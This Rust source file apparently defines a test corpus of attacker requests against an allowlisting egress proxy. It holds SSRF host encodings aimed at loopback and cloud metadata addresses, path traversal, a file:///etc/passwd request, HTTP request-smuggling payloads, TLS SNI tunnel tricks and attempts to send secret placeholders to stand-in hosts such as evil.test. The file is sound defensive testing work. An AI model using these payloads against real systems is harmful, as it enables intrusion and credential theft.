//! The requests of an attacker, as bytes.
//!
//! Absent: sending and judging them.

use super::hello::client_hello;

/// What must not come about.
pub enum Must {
    /// The far side is not even connected to.
    NotConnect,
    /// The far side may be asked what is allowed, and never hears these words.
    NotSay(&'static str),
}

/// One attack.
pub struct Try {
    pub class: &'static str,
    pub what: String,
    /// Each is sent when the one before was answered.
    pub pieces: Vec<Vec<u8>>,
    pub must: Must,
    /// Nobody is there who could write a record.
    pub unrecorded: bool,
}

impl Try {
    pub fn new(class: &'static str, what: impl Into<String>, pieces: Vec<Vec<u8>>, must: Must) -> Self {
        Self { class, what: what.into(), pieces, must, unrecorded: false }
    }

    pub fn unrecorded(mut self) -> Self {
        self.unrecorded = true;
        self
    }
}

/// A request as a proxy gets it.
pub fn get(host: &str, port: u16) -> Vec<Vec<u8>> {
    get_path(host, port, "/ok/file")
}

pub fn get_path(host: &str, port: u16, path: &str) -> Vec<Vec<u8>> {
    raw(format!("GET http://{host}:{port}{path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n"))
}

pub fn connect(host: &str, port: u16) -> Vec<Vec<u8>> {
    raw(format!("CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n"))
}

fn raw(text: impl Into<Vec<u8>>) -> Vec<Vec<u8>> {
    vec![text.into()]
}

/// Hosts that nobody listed, or that are listed ones in disguise. Every name leads to the far side.
const HOSTS: &[(&str, &str, &str)] = &[
    ("S2", "a host that is not listed", "evil.test"),
    ("S3", "a listed name as the beginning of another", "allowed.test.evil.test"),
    ("S3", "a listed name as the end of another", "evilallowed.test"),
    ("S3", "a name below a listed one", "sub.allowed.test"),
    ("S3", "a listed name before an at sign", "allowed.test@evil.test"),
    ("S3", "a listed name behind an at sign", "evil.test@allowed.test"),
    ("S3", "an at sign with a password", "a:b@evil.test"),
    ("S3", "a zero byte", "allowed.test\0.evil.test"),
    ("S3", "an encoded zero byte", "allowed.test%00.evil.test"),
    ("S3", "an encoded dot", "evil%2etest"),
    ("S3", "an encoded slash", "allowed.test%2f.evil.test"),
    ("S3", "a fragment", "evil.test#allowed.test"),
    ("S3", "a backslash", "evil.test\\allowed.test"),
    ("S3", "a question mark", "evil.test?allowed.test"),
    ("S3", "a tab", "allowed.test\t.evil.test"),
    ("S3", "letters that look alike", "аllowed.test"),
    ("S3", "a full stop of another script", "allowed。test"),
    ("S3", "two dots at the end", "allowed.test.."),
    ("S3", "an empty label", "allowed..test"),
    ("S3", "no host", ""),
    ("S5", "loopback by address", "127.0.0.1"),
    ("S5", "loopback in short", "127.1"),
    ("S5", "loopback as one number", "2130706433"),
    ("S5", "loopback in hex", "0x7f000001"),
    ("S5", "loopback in hex parts", "0x7f.0.0.1"),
    ("S5", "loopback in octal", "0177.0.0.1"),
    ("S5", "loopback in long octal", "00000177.0.0.01"),
    ("S5", "another loopback address", "127.127.127.127"),
    ("S5", "all addresses of this machine", "0.0.0.0"),
    ("S5", "a zero", "0"),
    ("S5", "loopback by name", "localhost"),
    ("S5", "loopback by a long name", "localhost.localdomain"),
    ("S5", "loopback by IPv6", "[::1]"),
    ("S5", "loopback by a long IPv6 form", "[0:0:0:0:0:0:0:1]"),
    ("S5", "loopback as IPv4 in IPv6", "[::ffff:127.0.0.1]"),
    ("S5", "loopback as IPv4 in IPv6, in hex", "[::ffff:7f00:1]"),
    ("S5", "a zone", "[fe80::1%25lo]"),
    ("S5", "the metadata address", "169.254.169.254"),
    ("S5", "the metadata address as one number", "2852039166"),
    ("S5", "the metadata address by IPv6", "[fd00:ec2::254]"),
    ("S5", "the metadata host", "metadata.google.internal"),
    ("S5", "another cloud's metadata address", "100.100.100.200"),
    ("S5", "a private address", "10.0.0.1"),
    ("S5", "the host as a container engine names it", "host.docker.internal"),
    ("S5", "a public address by number", "192.88.99.1"),
    ("S4", "a name that carries data", "c3RvbGVuLWRhdGE.attacker.test"),
    ("S5", "a listed name that leads to this machine", "cname.test"),
    ("S5", "a listed name with one good and one bad address", "both.test"),
    ("S5", "a listed name that leads to IPv6 loopback", "six.test"),
    ("S5", "a listed name that leads to IPv4 in IPv6", "mapped.test"),
    ("S5", "a listed name that leads through NAT64", "nat64.test"),
    ("S5", "a listed name that leads through 6to4", "sixtofour.test"),
    ("S5", "a listed name that leads to a carrier's network", "cgnat.test"),
    ("S5", "a company's name that leads to metadata", "metadata.test"),
    ("S5", "a company's name that leads to metadata by IPv6", "metadata6.test"),
    ("S5", "a company's name that leads to a link-local address", "linklocal.test"),
    ("S5", "a company's name that leads to everybody", "multicast.test"),
    ("S5", "a company's name that leads to no address", "zero.test"),
];

/// Paths out of the one folder that is allowed.
const PATHS: &[(&str, &str)] = &[
    ("beside it", "/secret"),
    ("a longer name", "/okay/secret"),
    ("dots", "/ok/../secret"),
    ("encoded dots", "/ok/%2e%2e/secret"),
    ("dots with an encoded slash", "/ok/..%2fsecret"),
    ("dots with a backslash", "/ok/..\\secret"),
    ("dots with an encoded backslash", "/ok/..%5csecret"),
    ("dots encoded twice", "/ok/%252e%252e/secret"),
    ("dots with a parameter", "/ok/..;/secret"),
    ("two slashes", "//secret"),
    ("a zero byte", "/secret%00/ok/"),
];

/// Everything that is tried as one request or one after another.
pub fn all(port: u16) -> Vec<Try> {
    let mut all = Vec::new();
    for (class, what, host) in HOSTS {
        all.push(Try::new(class, format!("{what}, by plain HTTP"), get(host, port), Must::NotConnect));
        let tunnel = vec![connect(host, port).concat(), client_hello(Some(host))];
        all.push(Try::new(class, format!("{what}, by a tunnel"), tunnel, Must::NotConnect));
    }
    // The first answer is a public address that nobody reaches; the second is this machine.
    for round in ["first", "second", "third"] {
        let what = format!("a listed name that changes its mind, {round} time");
        let attack = Try::new("S5", what, get("rebind.test", port), Must::NotConnect);
        all.push(if round == "first" { attack.unrecorded() } else { attack });
    }
    for (what, path) in PATHS {
        let pieces = get_path("allowed.test", port, path);
        all.push(Try::new("S3", format!("a path out of the allowed folder: {what}"), pieces, Must::NotSay("secret")));
    }
    all.extend(targets(port));
    all.extend(framing(port));
    all.extend(tunnels(port));
    all.extend(secrets(port));
    all
}

/// Request lines and Host headers that do not agree, or are no proxy requests.
fn targets(port: u16) -> Vec<Try> {
    let one = |what: &str, text: String| Try::new("S3", what, raw(text), Must::NotConnect);
    let line = format!("GET http://allowed.test:{port}/ok/ HTTP/1.1\r\n");
    vec![
        one("a Host header of another host", format!("{line}Host: evil.test\r\n\r\n")),
        one("a Host header of another port", format!("{line}Host: allowed.test:1\r\n\r\n")),
        one("two Host headers", format!("{line}Host: allowed.test:{port}\r\nHost: evil.test\r\n\r\n")),
        one(
            "a tunnel with another Host header",
            format!("CONNECT tunnel.test:{port} HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        ),
        one("a path alone", format!("GET /ok/ HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n")),
        one(
            "another scheme",
            format!("GET ftp://allowed.test:{port}/ok/ HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n"),
        ),
        one("a file", "GET file:///etc/passwd HTTP/1.1\r\nHost: allowed.test\r\n\r\n".into()),
        one("another port", "GET http://allowed.test:22/ok/ HTTP/1.1\r\nHost: allowed.test:22\r\n\r\n".into()),
        one("port zero", "CONNECT tunnel.test:0 HTTP/1.1\r\nHost: tunnel.test:0\r\n\r\n".into()),
        one("a port too large", "CONNECT tunnel.test:65979 HTTP/1.1\r\nHost: tunnel.test:65979\r\n\r\n".into()),
        one(
            "a method that is not listed",
            format!("DELETE http://allowed.test:{port}/ok/ HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n"),
        ),
        one(
            "a method that reflects",
            format!("TRACE http://allowed.test:{port}/ok/ HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n"),
        ),
        one(
            "a tunnel to a host whose paths are listed",
            format!("CONNECT allowed.test:{port} HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n"),
        ),
        one(
            "a websocket",
            format!(
                "{line}Host: allowed.test:{port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
            ),
        ),
        one(
            "HTTP/2 in the clear",
            format!(
                "{line}Host: allowed.test:{port}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
            ),
        ),
        one("HTTP/2 from the first byte", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".into()).unrecorded(),
        one("SOCKS", "\x05\x01\x00".into()).unrecorded(),
        one("TLS to the proxy itself", String::from_utf8_lossy(&client_hello(Some("allowed.test"))).into_owned())
            .unrecorded(),
    ]
}

/// Messages that two readers may cut in two ways. `/ok/` may be asked for, `smuggled` never heard.
fn framing(port: u16) -> Vec<Try> {
    let head = format!("POST http://allowed.test:{port}/ok/ HTTP/1.1\r\nHost: allowed.test:{port}\r\n");
    let inner = format!("GET http://evil.test:{port}/smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n");
    let chunked = format!("0\r\n\r\n{inner}");
    let not_say = |what: &str, text: String| Try::new("S3", what, raw(text), Must::NotSay("smuggled")).unrecorded();
    let not_connect = |what: &str, text: String| Try::new("S3", what, raw(text), Must::NotConnect).unrecorded();
    vec![
        not_say("both lengths", format!("{head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{chunked}")),
        not_say("two lengths", format!("{head}Content-Length: 0\r\nContent-Length: {}\r\n\r\n{inner}", inner.len())),
        not_say("a list of lengths", format!("{head}Content-Length: 0, {}\r\n\r\n{inner}", inner.len())),
        not_say("a length with a sign", format!("{head}Content-Length: +0\r\n\r\n{inner}")),
        not_say("an unknown encoding", format!("{head}Transfer-Encoding: xchunked\r\n\r\n{chunked}")),
        not_say(
            "an encoding twice",
            format!("{head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n{chunked}"),
        ),
        not_say("an encoding with a tab", format!("{head}Transfer-Encoding:\tchunked, identity\r\n\r\n{chunked}")),
        not_say(
            "an encoding of HTTP/1.0",
            format!("{}Transfer-Encoding: chunked\r\n\r\n{chunked}", head.replace("HTTP/1.1", "HTTP/1.0")),
        ),
        not_connect("a space before a colon", format!("{head}Transfer-Encoding : chunked\r\n\r\n{chunked}")),
        not_connect("a folded header", format!("{head}X-A: b\r\n Transfer-Encoding: chunked\r\n\r\n{chunked}")),
        not_connect("a zero byte in a header", format!("{head}X-A: b\0c\r\nContent-Length: 0\r\n\r\n")),
        not_connect(
            "a carriage return in a header",
            format!("{head}X-A: b\rX-C: smuggled\r\nContent-Length: 0\r\n\r\n"),
        ),
        not_say(
            "a second request in the line",
            format!(
                "GET http://allowed.test:{port}/ok/%0d%0aX:%20smuggled HTTP/1.1\r\nHost: allowed.test:{port}\r\nConnection: close\r\n\r\n"
            ),
        ),
        not_say(
            "a chunk size too large",
            format!("{head}Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\nsmuggled\r\n0\r\n\r\n"),
        ),
        not_say(
            "a chunk's extension with a line end",
            format!("{head}Transfer-Encoding: chunked\r\n\r\n2;a\nsmuggled\r\nxx\r\n0\r\n\r\n"),
        ),
        Try::new(
            "S3",
            "a second request to another host on one connection",
            vec![
                get("allowed.test", port)
                    .concat()
                    .strip_suffix(b"Connection: close\r\n\r\n")
                    .map(|head| [head, b"\r\n"].concat())
                    .unwrap_or_default(),
                inner.clone().into_bytes(),
            ],
            Must::NotSay("smuggled"),
        ),
    ]
}

/// Tunnels to an allowed host in which something else is said.
fn tunnels(port: u16) -> Vec<Try> {
    let through = |what: &str, inner: Vec<u8>, words: &'static str| {
        let pieces = vec![connect("tunnel.test", port).concat(), inner];
        Try::new("S3", format!("a tunnel {what}"), pieces, Must::NotSay(words))
    };
    let http = b"GET /smuggled HTTP/1.1\r\nHost: tunnel.test\r\n\r\n";
    let second = [client_hello(Some("tunnel.test")), client_hello(Some("evil.test"))].concat();
    let in_pieces = |inner: Vec<u8>| {
        let pieces = inner.chunks(7).map(<[u8]>::to_vec);
        [vec![connect("tunnel.test", port).concat()], pieces.collect()].concat()
    };
    let slow = in_pieces(client_hello(Some("evil.test")));
    vec![
        through("with the server name of another host", client_hello(Some("evil.test")), "evil.test"),
        through("with a longer server name", client_hello(Some("tunnel.test.evil.test")), "evil.test"),
        through("with a zero byte in the server name", client_hello(Some("tunnel.test\0evil.test")), "evil.test"),
        through("without a server name", client_hello(None), "\x16\x03\x01"),
        through("with plain HTTP", http.to_vec(), "smuggled"),
        through("with SSH", b"SSH-2.0-smuggled\r\n".to_vec(), "smuggled"),
        through("with a request before its hello", [http.to_vec(), second].concat(), "smuggled"),
        Try::new("S3", "a tunnel with another server name in small pieces", slow, Must::NotSay("evil.test")),
    ]
}

/// A placeholder where its secret is not bound.
fn secrets(port: u16) -> Vec<Try> {
    let placeholder = ::egress::placeholder(super::far::SECRET);
    let to = |host: &str, path: &str, header: String| {
        raw(format!(
            "GET http://{host}:{port}{path} HTTP/1.1\r\nHost: {host}:{port}\r\n{header}Connection: close\r\n\r\n"
        ))
    };
    vec![
        Try::new(
            "S1",
            "a placeholder to another listed host",
            to("other.test", "/ok/", format!("Authorization: Bearer {placeholder}\r\n")),
            Must::NotConnect,
        ),
        Try::new(
            "S1",
            "a placeholder in another header to another host",
            to("other.test", "/ok/", format!("X-Key: {placeholder}\r\n")),
            Must::NotConnect,
        ),
        Try::new(
            "S1",
            "a placeholder in an address to another host",
            to("other.test", &format!("/ok/?k={placeholder}"), String::new()),
            Must::NotConnect,
        ),
        Try::new(
            "S1",
            "a placeholder to a host that is not listed",
            to("evil.test", "/ok/", format!("Authorization: Bearer {placeholder}\r\n")),
            Must::NotConnect,
        ),
    ]
}
